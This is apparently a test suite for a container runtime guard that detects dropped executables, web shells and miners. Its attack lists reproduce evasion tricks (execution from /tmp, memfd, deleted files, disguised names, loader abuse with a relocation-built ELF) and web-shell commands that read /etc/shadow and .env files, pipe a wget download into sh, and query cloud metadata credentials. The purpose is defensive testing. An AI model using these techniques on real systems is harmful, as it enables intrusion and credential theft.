#!/usr/bin/env python3
"""exec.dropped in real containers. Each attack is first tried without the guard (it must run, else its end would prove
nothing), then with it: its program must not say a word. Honest twins: test_exec_benign.py."""

import os
import struct
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from pvevidence import *  # noqa: E402,F403
from pvtest import *  # noqa: E402,F403

RUN = "exec:1"


def relocated():
    """A program for glibc's loader none of whose parts is code in the file: relocations write it, eight octets each, into one that has no file."""
    said = b"RAN\n"
    tail = b"\xba" + struct.pack("<I", len(said)) + b"\x0f\x05\xb8\x3c\0\0\0\x31\xff\x0f\x05"  # mov $4, %edx; syscall; exit(0)
    code = b"\xb8\1\0\0\0\xbf\1\0\0\0\x48\x8d\x35" + struct.pack("<i", len(tail)) + tail + said  # write(1, ...
    offset, bss, blob, at = 0x1000, 0x4000, b"\0", {}  # from address 0 on, so that the loader asks for no other
    words = struct.unpack(f"<{-(-len(code) // 8)}q", code.ljust(-(-len(code) // 8) * 8, b"\0"))
    for name, part in (("symbols", b"\0" * 24), ("strings", b"\0libc.so.6\0"), ("hash", struct.pack("<4I", 1, 1, 0, 0)),
                       ("relocations", b"".join(struct.pack("<QQq", bss + 8 * i, 33, w) for i, w in enumerate(words)))):  # R_X86_64_SIZE64 of symbol 0
        blob = blob.ljust(-(-len(blob) // 8) * 8, b"\0")
        at[name] = len(blob)
        blob += part
    dynamic = -(-len(blob) // 8) * 8
    blob = blob.ljust(dynamic, b"\0")
    blob += struct.pack("<20Q", 1, 1, 4, at["hash"], 5, at["strings"], 6, at["symbols"], 10, 11, 11, 24, 7, at["relocations"], 8, 24 * len(words), 9, 24, 0, 0)
    parts = ((1, 6, 0, len(blob), len(blob), 4096), (1, 7, bss, 0, 4096, 4096), (2, 6, dynamic, 160, 160, 8))
    head = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 3, 62, 1, bss, 64, 0, 0, 64, 56, len(parts), 0, 0, 0)
    path = os.path.join(REPO, "build", "pvtest-relocated")
    with open(path, "wb") as f:
        f.write((head + b"".join(struct.pack("<IIQQQQQQ", t, flags, offset + va, va, va, *rest) for t, flags, va, *rest in parts)).ljust(offset, b"\0") + blob)
    os.chmod(path, 0o755)
    return path


DYNAMIC_FILES, LOADER = dynamic_files()
GONE = ("/memfd:kworker", "/memfd:kloader", "/opt/gone")  # files that end with their process
# what, a line for the shell, why it is refused (in the words of the notice), the program as the notice has it
ATTACKS = [
    ("a copy in /tmp", "cp /bin/pvran /tmp/m && /tmp/m; echo $?", "everybody may write", "/tmp/m"),
    ("a hidden folder in /tmp", "mkdir -p /tmp/.ICEi-unix && cp /bin/pvran /tmp/.ICEi-unix/hash && /tmp/.ICEi-unix/hash", "everybody may write", "/tmp/.ICEi-unix/hash"),
    ("a folder named ...", "mkdir -p /tmp/... && cp /bin/pvran /tmp/.../x && cd /tmp/... && ./x", "everybody may write", "/tmp/.../x"),
    ("/var/tmp", "mkdir -p /var/tmp && chmod 1777 /var/tmp && cp /bin/pvran /var/tmp/d && /var/tmp/d", "everybody may write", "/var/tmp/d"),
    ("deep below /tmp", "d=/tmp; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28; do d=$d/a; done; "
     "mkdir -p $d && cp /bin/pvran $d/x && $d/x", "everybody may write", "/a/a/x"),
    ("an upload folder of the application", "mkdir -p /app/uploads && chmod 777 /app/uploads && cp /bin/pvran /app/uploads/a.png && "
     "/app/uploads/a.png", "everybody may write", "/app/uploads/a.png"),
    ("a link in PATH", "cp /bin/pvran /tmp/t && ln -s /tmp/t /bin/nodejs-helper && nodejs-helper", "everybody may write", "/tmp/t"),
    ("as the interpreter of a script", "mkdir -p /opt && cp /bin/pvran /tmp/i && printf '#!/tmp/i\\n' > /opt/s && chmod 755 /opt/s && /opt/s",
     "everybody may write", "/tmp/i"),
    ("by vfork", "cp /bin/pvran /tmp/v && /bin/pvran spawn /tmp/v", "everybody may write", "/tmp/v"),
    ("in the background", "cp /bin/pvran /tmp/b && { /tmp/b & wait; }", "everybody may write", "/tmp/b"),
    ("/dev", "cp /bin/pvran /dev/x && /dev/x", "file system in memory", "/dev/x"),
    ("from memory", "/bin/pvran memory", "lies in memory", "/memfd:kworker"),
    ("a deleted file", "mkdir -p /opt && /bin/pvran deleted /opt/gone", "was deleted", "/opt/gone"),
    ("a miner's name", "mkdir -p /opt && cp /bin/pvran /opt/xmrig && /opt/xmrig", "miner's name", "/opt/xmrig"),
    ("a miner's name with its version, in node_modules", "d=/app/node_modules/next/dist/server/lib/xmrig-6.24.0; mkdir -p $d && "
     "cp /bin/pvran $d/xmrig-6.24.0 && $d/xmrig-6.24.0", "miner's name", "/xmrig-6.24.0/xmrig-6.24.0"),
    ("named like a kernel thread", "cp /bin/pvran /bin/kworkerd && kworkerd", "miner's name", "/bin/kworkerd"),
    ("named like a daemon", "mkdir -p /usr/lib && cp /bin/pvran /usr/lib/systemd-daemon && /usr/lib/systemd-daemon", "miner's name", "/usr/lib/systemd-daemon"),
    ("over a program of the image", "cat /bin/pvran > /bin/pvdns && /bin/pvdns", "not as long as in the image", "/bin/pvdns"),
    ("a volume with a folder for everybody", "mkdir -p /vol/up && chmod 777 /vol/up && cp /bin/pvran /vol/up/x && /vol/up/x",
     "volume or another mount", "/vol/up/x"),
    ("by the dynamic loader", f"cp /bin/pvdyn /tmp/ld && {LOADER} /tmp/ld", "everybody may write", "/tmp/ld"),
    *[("by the loader, its code written by relocations", f"cp /bin/pvrel /tmp/rel && {LOADER} /tmp/rel", "everybody may write", "/tmp/rel")] * (os.uname().machine == "x86_64"),
    ("from memory by the loader", f"/bin/pvdyn memory {LOADER}", "lies in memory", "/memfd:kloader"),
    ("as the first process", None, "everybody may write", "/tmp/p1"),
    ("by docker exec alone", None, "everybody may write", "/tmp/e"),
    ("as nobody", None, "everybody may write", "/tmp/n"),
]


def image(d):
    d.import_image(image_tar(extra=(*((helper("pvran"), f"bin/{name}") for name in ("pvran", "node", "npm", "perl")), (helper("pvnet"), "bin/php-fpm"), (relocated(), "bin/pvrel"), *DYNAMIC_FILES)), RUN)


def program(path):
    """What was dropped there."""
    if path == "/tmp/rel":
        return relocated()
    return helper("pvdyn" if path in ("/tmp/ld", "/memfd:kloader") else "pvran")


def on_disk(name):
    """A folder of the host with the stand-in, to be mounted, on a file system that is no tmpfs: that would be memory."""
    path = os.path.join(REPO, "build", f"pvtest-{os.getpid()}-{name}")
    os.makedirs(path, exist_ok=True)
    os.chmod(path, 0o755)
    shutil.copy(helper("pvran"), path + "/pvran")
    return path


def attack(d, c, what, line):
    """What it says, and the container."""
    if what == "as the first process":
        one = d.run(["sh", "-c", "echo started; cp /bin/pvran /tmp/p1; exec /tmp/p1"], image=RUN)
        one.wait()
        return one.logs(), one
    if what == "by docker exec alone":
        c.exec("sh", "-c", "cp /bin/pvran /tmp/e")
        return c.exec("/tmp/e"), c
    if what == "as nobody":
        return c.exec("sh", "-c", "cp /bin/pvran /tmp/n && /tmp/n", user="65534"), c
    return c.exec("sh", "-c", line), c


def all_of(d, attacks, name, at=None, **kw):
    """All of them, five in a container (eight names a minute are told of one). Which ran, and where each was. `at`: called in the middle
    of the fourth."""
    ran, where = [], {}
    for i, (what, line, _, path) in enumerate(attacks):
        if i % 5 == 0:
            c = d.run(["sh", "-c", "echo started; exec sleep 1000"], name=f"{name}-{i // 5}", image=RUN, **kw)
        if at and i == 3:
            threading.Timer(0.05, at).start()
        out, in_ = attack(d, c, what, line)
        where[path] = in_.id
        if "RAN" in out:
            ran.append(what)
    return ran, where


def lost(g):
    return g.answers() and g.status()["counts"]["lost"]


def last_row(g):
    return max((n["row"] for n in g.notices()), default=0)


def told_of(g, attacks, since, done=lambda n: said(n, "evidence"), seconds=20):
    """The notice of each attack, by its program's path. Waits until all are there, or as many are told to be lost."""
    told = {}

    def look():
        told.clear()
        for n in g.notices("exec.dropped"):
            for _, _, why, path in attacks:
                what = n["detail"]["what"]
                if n["row"] > since and n["action"] == "blocked" and path + "," in what.replace(" (deleted)", "") and why in what:
                    told.setdefault(path, n)
        return len(told) + lost(g) >= len(attacks) and all(done(n) for n in told.values())
    wait_for(look, seconds)
    return told


def lacking(attacks, told, where, script=True, late=0):
    """What is wrong with the evidence, by attack. `late`: so many may have come to nothing for want of time, as their notice says."""
    wrong = {}
    late = len(attacks) if SLOW > 1 else late  # the collector has two seconds, however slow the machine
    for what, _, _, path in attacks:
        where_ = said(told[path], "evidence") if path in told else "no notice"
        if late and where_.endswith("the collector did not answer in time"):
            late -= 1
            continue
        if not where_.startswith("/"):
            wrong[what] = where_ or "no evidence"
            continue
        b = Bundle(where_)
        bad = b.lacks(where[path], path, program(path), gone=path in GONE, ended=what == "as the first process")
        if script and path == "/tmp/i" and not any(f.startswith(b"#!/tmp/i") for f in b.find("5-files")):
            bad.append("the script")
        if bad:
            wrong[what] = (bad, b.missing)
    return wrong


def conf(d):
    return {"exec": {"grace": "0s"}, "docker": {"root": d.dir + "/data"}}


# What is told and goes on, by a process of the container's own; what is told of it. /bin/sh, because busybox runs its own sh without a start.
TOLD = [
    ("a library of /tmp by LD_PRELOAD", "cp /lib/pvlib.so /tmp/p.so; LD_PRELOAD=/tmp/p.so /bin/pvdyn", "loaded /tmp/p.so"),
    ("one that a program loads", "mkdir -p /var/tmp; chmod 1777 /var/tmp; cp /bin/pvdyn /bin/app; cp /lib/pvlib.so /var/tmp/q.so; app load /var/tmp/q.so",
     "loaded /var/tmp/q.so"),
    ("sh with a script", "echo pvran > /tmp/x; /bin/sh /tmp/x", "had sh run the script /tmp/x"),
    ("with an option and arguments", "echo pvran > /tmp/y; /bin/sh -e /tmp/y arg", "had sh run the script /tmp/y"),
    ("from within its folder", "echo pvran > /tmp/z; cd /tmp; /bin/sh ./z", "had sh run the script /tmp/z"),
    ("a script that is run itself", "printf '#!/bin/sh\\npvran\\n' > /tmp/w; chmod 755 /tmp/w; /tmp/w", "run the script /tmp/w"),
    ("another interpreter", "perl /dev/shm/.a", "had perl run the script /dev/shm/.a"),
]
# Their honest twins. The last two by a package manager.
QUIET = [
    "LD_PRELOAD=/lib/pvlib.so /bin/pvdyn", "mkdir -p /app/node_modules; cp /lib/pvlib.so /app/node_modules/a.node; pvdyn load /app/node_modules/a.node",
    "echo pvran | sh", "mkdir -p /app; echo pvran > /app/x; /bin/sh /app/x", "sh -c 'pvran; # /tmp/x'",
    "node /bin/npm sh 'cp /lib/pvlib.so /tmp/n.so; LD_PRELOAD=/tmp/n.so /bin/pvdyn'", "node /bin/npm sh 'echo pvran > /tmp/s; /bin/sh /tmp/s'",
]


def check_told(tap, d, g):
    """Loaded libraries and scripts: nothing is refused, what is odd is told."""
    lines = [line for _, line, _ in TOLD] + QUIET
    quiet = d.run(["sh", "-c", "\n".join(f"( {line} )" for line in QUIET) + "\nsleep 1000"], name="quiet", image=RUN)
    odd = d.run(["sh", "-c", "\n".join(f"( {line} )" for _, line, _ in TOLD) + "\nsleep 1000"], name="odd", image=RUN)
    own = d.run(["node", "/app/wrap", "--", "sh", "/tmp/entry"], name="own", image=RUN)
    own.wait()
    wait_for(lambda: odd.logs().count("RAN") == len(TOLD) and quiet.logs().count("RAN") == len(QUIET), 10)
    tap.eq([odd.logs().count("RAN"), quiet.logs().count("RAN")], [len(TOLD), len(QUIET)], f"loaded libraries and scripts: all of {len(lines)} run")

    def lacking_():
        told = [n["detail"]["what"] for n in g.notices("exec.dropped", "odd")]
        return [what for what, _, words in TOLD if not any(words in t for t in told)]
    wait_for(lambda: not lacking_(), 10)
    tap.eq(lacking_(), [], "what comes from a folder for everybody is told")
    told = g.notices("exec.dropped", "odd")
    tap.eq({(n["action"], n["severity"]) for n in told if "/bin/app" not in said(n, "path")}, {("alerted", "medium")}, "as that: told")
    n = next((n for n in told if "/tmp/p.so" in n["detail"]["what"]), None)
    tap.ok(n and said(n, "command") == "/bin/pvdyn" and "sh (" in said(n, "chain"), "with the line and who started it", n)
    tap.eq([n["detail"]["what"] for n in g.notices() if n["subject"]["name"] in ("quiet", "own")], [],
           "what comes with the image or a package, by a package manager or as the container's own command is not")


def test_attacks(tap):
    volume = on_disk("vol")
    try:
        with Dockerd() as d:
            image(d)
            binds = {"Binds": [f"{volume}:/vol"]}
            ran, where = all_of(d, ATTACKS, "bare", **binds)
            tap.eq([what for what, _, _, _ in ATTACKS if what not in ran], [], f"unguarded: {len(ATTACKS)} attacks run")
            for id_ in set(where.values()):
                Container(d, id_).remove()
            shutil.rmtree(volume + "/up")
            with Guard(d, conf(d)) as g:
                ran, where = all_of(d, ATTACKS, "box", **binds)
                tap.eq(ran, [], "guarded: none of their programs says a word")
                c = Container(d, where["/tmp/m"])
                tap.ok(c.running(), "and the container itself goes on")
                told = told_of(g, ATTACKS, 0)
                tap.eq([what for what, _, _, path in ATTACKS if path not in told], [], "each is told with its reason")
                tap.eq(lacking(ATTACKS, told, where), {}, "and all that was there is in its evidence, the rest is named with why")
                n = told["/tmp/m"]
                tap.eq((n["subject"]["name"], n["severity"], said(n, "path"), said(n, "command"), n["next"]),
                       ("box-0", "high", "/tmp/m", "/tmp/m", "pavise allow box-0 exec"), "with name, path, command and what to type")
                tap.ok("sh (" in said(n, "chain"), "and who started it", n)
                counts = g.status()["counts"]
                tap.ok(counts["exec_refused"] >= len(ATTACKS) and counts["lost"] == 0, "all are counted, none was lost", counts)
                check_told(tap, d, g)
                for pid in g.roles().values():
                    os.kill(pid, signal.SIGKILL)
                tap.ok("RAN" not in c.exec("sh", "-c", "cp /bin/pvran /tmp/k && /tmp/k"), "with every role just killed it is refused as well")
                c.restart()
                tap.ok("RAN" not in c.exec("sh", "-c", "/tmp/m"), "and what lay there before a restart")
    finally:
        shutil.rmtree(volume, ignore_errors=True)


def test_grace(tap):
    with Dockerd() as d:
        image(d)
        with Guard(d, {"docker": {"root": d.dir + "/data"}}) as g:
            early = [a for a in ATTACKS if "everybody" not in a[2] and "/vol" not in a[3]]
            ran, where = all_of(d, early, "young")
            tap.eq(ran, [], "in the first two minutes too: memory, names, changed programs")
            told = told_of(g, early, 0)
            tap.eq(lacking(early, told, where), {}, f"with evidence as whole: {len(early)} attacks")
            c = Container(d, where["/opt/xmrig"])
            tap.eq(c.exec("sh", "-c", "cp /bin/pvran /tmp/m && /tmp/m"), "RAN", "a program in /tmp runs then")
            n = g.wait_notice("exec.dropped", where=lambda n: "/tmp/m" in n["detail"]["what"])
            tap.ok(n and n["action"] == "alerted" and "soon after the first start" in n["detail"]["what"], "and is told", n)


def end(pids):
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def test_killed(tap):
    """The same attacks while the guard is killed in the middle: first who tells, then everybody. Who comes after it takes the evidence of
    what had been told, and knows of no script any more."""
    attacks = [a for a in ATTACKS if "/vol" not in a[3]]
    with Dockerd() as d:
        image(d)
        with Guard(d, conf(d)) as g:
            ran, where = all_of(d, attacks, "one", lambda: end([g.roles()["pavise-engine"]]))
            tap.eq(ran, [], f"its engine killed in the middle: none of {len(attacks)} programs says a word")
            wait_for(g.answers, 20)
            told = told_of(g, attacks, 0)
            unseen = [path for _, _, _, path in attacks if path not in told]
            tap.ok(len(unseen) <= lost(g), "the next one tells each, or how many were lost", (unseen, lost(g)))
            tap.eq(lacking([a for a in attacks if a[3] in told], told, where, False), {}, "and has the evidence, or what there is left of it")
            since = last_row(g)
            ran, where = all_of(d, attacks, "two", lambda: end([*g.roles().values(), g.proc.pid]))
            tap.eq(ran, [], "all of it killed in the middle: none says a word")
            tap.eq(g.roles(), {}, "and none of it runs")
            g.stop(signal.SIGKILL)
            g.start()
            told = told_of(g, attacks, since)
            unseen = [path for _, _, _, path in attacks if path not in told]
            tap.note(f"{len(told)} told, {lost(g)} lost")
            tap.ok(len(unseen) <= lost(g), "the next guard tells each, or how many were lost", (unseen, lost(g), g.log(8)))
            tap.ok("/tmp/p1" not in told or said(told["/tmp/p1"], "evidence"), "of a container that ended meanwhile it is said that nothing is left")
            tap.eq(lacking([a for a in attacks if a[3] in told and a[3] != "/tmp/p1"], told, where, False, late=2), {}, "the others have theirs")


def test_shell(tap):
    """A server that starts a shell, and those of whom it is expected."""
    with Dockerd() as d:
        image(d)
        old = d.run(["node", "/app/server.js", "later", "/tmp/go", "id; true"], name="was-there", image=RUN)
        with Guard(d, {"docker": {"root": d.dir + "/data"}}) as g:
            old.exec("touch", "/tmp/go")
            d.run(["node", "/app/server.js", "sh", "id; sleep 4"], name="hacked", image=RUN)
            d.run(["node", "/app/server.js", "sh", "cat /app/.env; sleep 4"], name="reads", image=RUN)
            bring = "mkdir -p /opt; cp /bin/pvran /opt/helper; /opt/helper; sleep 4"
            dropped = d.run(["node", "/app/server.js", "sh", bring], name="dropped", image=RUN)
            fetch = d.run(["node", "/app/server.js", "sh", "wget -q http://127.0.0.1:1/x | sh; sleep 4"], name="fetches", image=RUN)
            d.run(["sh", "-c", "node /app/server.js sh 'cat /etc/shadow; sleep 4'; true"], name="behind-entry", image=RUN)
            healthy = d.run(["node", "wait", "1000"], name="health-check", image=RUN, health=["CMD", "node", "/app/check.js", "sh", "id; wget -q http://127.0.0.1:1/; true"])
            d.run(["node", "/app/server.js", "sh", "a=169.254.169; pvnet connect $a.254 80; pvnet connect fd00:ec2::254 80; sleep 4"], name="asks-the-cloud", image=RUN)
            sdk = d.run(["php-fpm", "connect", "169.254.169.254", "80"], name="has-a-role", image=RUN)
            for one in (dropped, fetch, sdk):
                one.wait()
            honest = {
                "entrypoint": ["sh", "-c", "id; exec node /app/server.js"],
                "entry-is-parent": ["sh", "-c", "wget -q http://127.0.0.1:1/; node /app/server.js; true"],
                "wrapped-command": ["node", "/app/wrap.js", "--", "sh", "-c", "id; node /app/server.js; true"],
                "package-script": ["node", "/bin/npm", "sh", "id; cp /bin/pvran /bin/tool; /bin/tool"],
                "runner-of-scripts": ["node", "/bin/npm", "sh", "node /app/node_modules/.bin/concurrently sh 'id; cp /bin/pvran /bin/tool; /bin/tool'"],
                "shell-alone": ["sh", "-c", "sh -c id"],
            }
            for name, cmd in honest.items():
                d.run(cmd, name=name, image=RUN).wait()
            c = d.run(["node", "wait", "1000"], name="checked", image=RUN)
            tap.eq(c.exec("sh", "-c", "sh -c 'mkdir -p /opt; cp /bin/pvran /opt/x; /opt/x'"), "RAN", "docker exec of a shell brings what it likes")
            own = 'node /app/server.js sh "mkdir -p /opt; cp /bin/pvran /opt/y; /opt/y"'
            tap.eq(c.exec("node", "/app/check.js", "sh", own), "RAN", "so does a shell that a server's name by docker exec starts")
            both = d.run(["sh", "-c", f"while [ ! -e /tmp/go ]; do sleep 0.1; done; {own}; echo over; sleep 1000"], name="dropped-too", image=RUN)
            tap.eq(both.exec("node", "/app/check.js", "sh", "cp /bin/pvran /bin/tool; /bin/tool; touch /tmp/go"), "RAN", "beside a server")
            wait_for(lambda: "over" in both.logs(), 10)
            tap.ok("RAN" not in both.logs(), "while what the container's own starts does not run", both.logs())
            modes = {"dropped-hosts-pids": "host", "dropped-others-pids": f"container:{c.id}"}
            said_ = [d.run(["sh", "-c", f"{own}; sleep 4"], name=name, image=RUN, PidMode=mode) for name, mode in modes.items()]
            tap.eq([(one.wait(), one.logs())[1] for one in said_], ["", ""], "nor with the PIDs of the host or of another container, where none is init")
            g.wait_notice("exec.web-shell", "hacked")  # the Engine API knows the containers by now
            tap.ok("uid" in c.exec("node", "/app/check.js", "sh", "id"), "a server's name by docker exec, or as a health check, starts a shell")
            old.wait()
            n = g.wait_notice("exec.web-shell", "reads")
            tap.ok(n and n["severity"] == "critical" and "that reads an .env file" in n["detail"]["what"], "one that reads credentials is critical", n)
            n = g.wait_notice("exec.web-shell", "behind-entry")
            tap.ok(n and n["severity"] == "critical" and "had node start" in n["detail"]["what"], "so is a server's below a script that is the entry", n)
            n = g.wait_notice("exec.web-shell", "asks-the-cloud", where=lambda n: "ask 169.254.169.254 for the cloud's credentials" in n["detail"]["what"])
            tap.ok(n and n["severity"] == "critical" and n["action"] == "alerted", "so is one that asks the cloud for them", g.notices("exec.web-shell"))
            tap.ok(g.wait_notice("exec.web-shell", "asks-the-cloud", where=lambda n: "ask fd00:ec2::254 for" in n["detail"]["what"]), "over IPv6, too")
            n = g.wait_notice("exec.web-shell", "hacked")
            tap.ok(n and n["action"] == "alerted" and "node start a shell: sh -c id" in n["detail"]["what"], "a server's shell is told", n)
            ev = {e["what"]: e["value"] for e in n["detail"]["evidence"]} if n else {}
            tap.ok("node (" in ev.get("chain", ""), "with the chain", ev)
            tap.ok("RAN" not in dropped.logs(), "what it brings to an honest folder does not run, within the grace as well", dropped.logs())
            n = g.wait_notice("exec.dropped", "dropped")
            tap.ok(n and n["action"] == "blocked" and n["severity"] == "critical" and "brought by a shell" in n["detail"]["what"],
                   "and it is told why", n)
            b, n = bundle_of(g, "exec.dropped", lambda n: "/opt/helper" in n["detail"]["what"])
            tap.eq(b and b.lacks(dropped.id, "/opt/helper", helper("pvran")), [], "with evidence as whole")
            n = g.wait_notice("exec.web-shell", "fetches", where=lambda n: "fetch" in n["detail"]["what"])
            tap.ok(n and n["severity"] == "critical", "a fetch in such a shell is critical", g.notices("exec.web-shell"))
            ran = lambda: healthy.inspect()["State"]["Health"]["Log"]
            tap.ok(wait_for(lambda: ran() and "uid" in ran()[-1]["Output"], 10), "a health check starts a shell, which fetches", ran())
            tap.ok(g.wait_notice("exec.web-shell", "was-there"), "also of a server that ran before the guard", g.notices("exec.web-shell"))
            time.sleep(1.2)
            told = {n["subject"]["name"] for n in g.notices("exec.web-shell")}
            tap.eq(told & (set(honest) | {"checked", "health-check", "has-a-role"}), set(), "entrypoints, package scripts, shells of shells and docker exec, health checks and wrapped commands do not count")
            tap.eq([n["detail"]["what"] for n in g.notices("exec.dropped") if not n["subject"]["name"].startswith("dropped") and n["action"] == "blocked"],
                   [], "and what they bring runs")


def test_miner(tap):
    """Command lines, of programs of the image as well."""
    with Dockerd() as d:
        image(d)
        with Guard(d, conf={"sample": "500ms"}) as g:
            spin = "while :; do :; done"
            d.run(["sh", "-c", spin, "x", "-o", "stratum+tcp://pool.example.org:3333"], name="mines", image=RUN, NanoCpus=int(5e8))
            d.run(["sh", "-c", spin, "x", "-o", "http://www.example.org/"], name="computes", image=RUN, NanoCpus=int(5e8))
            n = g.wait_notice("exec.miner", "mines", 30)
            tap.ok(n and n["severity"] == "critical" and "a stratum URL" in n["detail"]["what"], "a busy process with a stratum URL is told", n)
            c = d.run("sleep 1000", name="drops", image=RUN)
            c.exec("sh", "-c", "cp /bin/pvran /dev/a; /dev/a --donate-level=1; true")
            tap.ok(g.wait_notice("exec.miner", "drops"), "a dropped program by its options, though it never ran")
            tap.eq(g.notices("exec.miner", "computes"), [], "another busy one is not")


main(test_attacks, test_killed, test_grace, test_shell, test_miner, at_once=2)
